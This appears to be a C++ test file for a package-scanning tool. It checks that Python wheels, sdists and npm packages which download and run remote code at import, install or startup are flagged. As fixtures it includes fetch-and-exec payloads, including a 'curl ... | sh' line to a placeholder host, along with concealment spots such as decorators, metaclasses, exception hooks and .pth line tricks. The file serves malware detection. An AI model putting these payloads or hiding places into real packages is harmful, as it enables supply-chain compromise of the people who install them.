// Code of a package that nothing calls by name: decorators, metaclasses, handlers, lines of .pth files, files that setup.py runs. And
// packages that take long to look at.
#include <catch2/catch.hpp>

#include "packages.hpp"

using namespace headgate;
using namespace headgate::tests;

namespace {

Outcome module(const std::string& source) { return wheel({{"pkg/__init__.py", source}}); }

const std::string kImport = "import urllib.request\n";
const std::string kBody = "    exec(urllib.request.urlopen('https://code.example/x').read())\n";
const std::string kFetch = "import os,urllib.request;exec(urllib.request.urlopen('https://code.example/x').read())\n";

std::string many(std::string_view what, int times) {
    std::string text;
    for (int i = 0; i < times; ++i) text += what;
    return text;
}

}  // namespace

TEST_CASE("Python: what a decorator does runs") {
    CHECK(module(kImport + "def d(f):\n" + kBody + "@d\ndef g(): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "class D:\n    def __init__(self, f):\n    " + kBody + "@D\ndef g(): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "def d(f):\n" + kBody + "class C:\n    @d\n    def g(self): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "import atexit\n@atexit.register\ndef g():\n" + kBody).has_trait("downloaded-code-at-import"));
    CHECK(module("@exec\n@input\nclass C: pass\n").has_trait("decoded-code-at-import"));
    CHECK(module(kImport + "import functools\ndef d(f):\n    @functools.wraps(f)\n    def inner():\n    " + kBody + "    return inner\n@d\ndef g(): pass\n").traits().empty());
    CHECK(module(kImport + "import functools, atexit\n@functools.lru_cache\ndef g():\n" + kBody + "@atexit.register\ndef h(): pass\n").traits().empty());
    CHECK(module(kImport + "@property\ndef g(self):\n" + kBody + "@staticmethod\ndef h():\n" + kBody).traits().empty());
}

TEST_CASE("Python: what makes a class runs") {
    CHECK(module(kImport + "class M(type):\n    def __new__(m, n, b, d):\n    " + kBody + "class C(metaclass=M): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "class M(type):\n    def __prepare__(n, b):\n    " + kBody + "class C(object, metaclass=M): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "def m(n, b, d):\n" + kBody + "class C(metaclass=m): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "class A:\n    def __init_subclass__(cls):\n    " + kBody + "class B(A): pass\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "class D:\n    def __set_name__(self, o, n):\n    " + kBody + "class C:\n    x = D()\n").has_trait("downloaded-code-at-import"));
    CHECK(module(kImport + "class A:\n    def __init_subclass__(cls):\n    " + kBody).traits().empty());
    CHECK(module(kImport + "import abc\nclass M(abc.ABCMeta):\n    def run(cls):\n    " + kBody + "class C(metaclass=M): pass\nclass E(C): pass\n").traits().empty());
}

TEST_CASE("Python: what is set as a handler runs") {
    for (const char* const set : {"sys.excepthook = f", "s.excepthook = f", "signal.signal(15, f)", "sys.settrace(f)", "atexit.register(f)", "weakref.finalize(x, f)", "builtins.__import__ = f", "sys.unraisablehook = lambda a: f()",
                                  "os.register_at_fork(after_in_child=f)"}) {
        CAPTURE(set);
        const Outcome found = module(kImport + "import sys, signal, atexit, weakref, builtins, os\nimport sys as s\ndef f(*a):\n" + kBody + set + "\n");
        CHECK(found.has_trait("downloaded-code-at-import"));
    }
    CHECK(module(kImport + "import sys\ndef f(*a):\n" + kBody + "self.excepthook = f\nx.handler = f\ny = f\n").traits().empty());
    CHECK(module(kImport + "import sys, signal\ndef g(*a): pass\ndef f():\n" + kBody + "sys.excepthook = g\nsignal.signal(2, g)\n").traits().empty());
}

TEST_CASE("Python: what is fetched is run, in other words") {
    const std::string read = "urllib.request.urlopen('https://code.example/x').read()";
    for (const std::string& source : {"exec(" + read + ")", "exec(compile(" + read + ", 'x', 'exec'))", "c = compile(" + read + ", 'x', 'exec')\nexec(c)", std::string("import requests\nexec(requests.get('https://code.example/x').text)"), "eval(" + read + ".decode())",
                                      "__import__('builtins').exec(" + read + ")"}) {
        CAPTURE(source);
        CHECK(module(kImport + source + "\n").has_trait("downloaded-code-at-import"));
    }
    CHECK(module("__import__('os').system('curl https://code.example/x | sh')\n").has_trait("fetches-and-runs-at-import"));
}

TEST_CASE("wheel: a line of a .pth file ends where Python ends it") {
    for (const char* const end : {"\x0C", "\x0B", "\x1C", "\x1D", "\x1E", "\xC2\x85", "\xE2\x80\xA8", "\xE2\x80\xA9", "\r", "\n", "\r\n"}) {
        CAPTURE(end);
        CHECK(wheel({{"z.pth", "pkg" + std::string(end) + kFetch}}).has_trait("downloaded-code-at-start"));
    }
    CHECK(wheel({{"z.pth", "\xE9\x85" + kFetch}}).has_trait("downloaded-code-at-start"));       // Latin-1
    CHECK(wheel({{"z.pth", "./p\xC3\xA4kg\n# import os\nimportant\n \timport os\n"}}).traits().empty());
}

TEST_CASE("sdist: the files that setup.py runs") {
    const std::string setup = "from setuptools import setup\n";
    for (const char* const run : {"exec(open('pkg/v.dat').read())\n", "with open('pkg/v.dat') as f:\n    exec(f.read(), {})\n", "import os\nexec(open(os.path.join('pkg', 'v.dat')).read())\n", "exec(compile(open('./pkg/v.dat').read(), 'v', 'exec'))\n"}) {
        CAPTURE(run);
        CHECK(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.dat", kFetch}}).has_trait("downloaded-code-at-install"));
        CHECK(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.dat", "__version__ = '1.0'\n"}}).traits() == "runs-at-install: setup.py\n");
    }
    CHECK(sdist({{"setup.py", setup + "exec(open('pkg/version.py').read())\nsetup()\n"}, {"pkg/version.py", kFetch}}).has_trait("downloaded-code-at-install"));
    CHECK(sdist({{"setup.py", setup + "d = open('README.md').read()\nexec(open('pkg/version.py').read())\nsetup()\n"}, {"README.md", "it's \"\"\" no Python (\n"}, {"pkg/version.py", "v = '1'\n"}, {"tests/version.py", "x = 1\n"}}).traits() ==
          "runs-at-install: setup.py\n");
}

TEST_CASE("packages that repeat one thing many times take no time") {
    std::string functions = "from urllib.request import urlopen\nx = urlopen('https://code.example')\ndef f(";
    for (int i = 0; i < 20'000; ++i) functions += "a" + std::to_string(i) + ",";
    functions += "): pass\n";
    for (int i = 0; i < 20'000; ++i) functions += "def g" + std::to_string(i) + "(): f(x)\n";
    CHECK(module(functions).oracle());
    for (const char* const part : {"@", "@d\n", "class C(metaclass=M): pass\n", "class C(C): pass\n", "sys.excepthook = ", "@exec\n"}) {
        CAPTURE(part);
        CHECK(module("def d(f): pass\n" + many(part, 50'000) + "\n").oracle());
    }
    CHECK(module("x = a" + many("[0]", 200'000) + "\ny = " + many("f().", 100'000) + "g\n").oracle());
    std::string chain = "{\"name\": \"pkg\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"npm run a0\"";
    for (int i = 0; i < 25'000; ++i) chain += ", \"a" + std::to_string(i) + "\": \"npm run a" + std::to_string(i + 1) + "\"";
    CHECK(npm(chain + "}}").has_trait("oversized-source"));
    CHECK(npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "npm run)" + many(" x", 5'000) + "\"}}").has_trait("oversized-source"));
    CHECK(npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": ")" + many("( ", 100'000) + "\"}}").oracle());
    std::string manifest = "{\"main\": \"y\"";
    for (int i = 0; i < 50'000; ++i) manifest += ", \"a" + std::to_string(i) + "\": 1";
    CHECK(npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "node)" + many(" -r ./x", 2'000) + "\"}}", {{"x/package.json", manifest + "}"}}).oracle());
    // A script of a shell may be long.
    const Outcome lines = npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "sh i.sh"}})", {{"i.sh", many("echo x\n", 2'000)}});
    CHECK_FALSE(lines.has_trait("oversized-source"));
    CHECK(lines.has_trait("unknown-install-command"));
    CHECK_FALSE(npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "sh i.sh"}})", {{"i.sh", many("echo x\n", 100)}}).has_trait("unknown-install-command"));
}
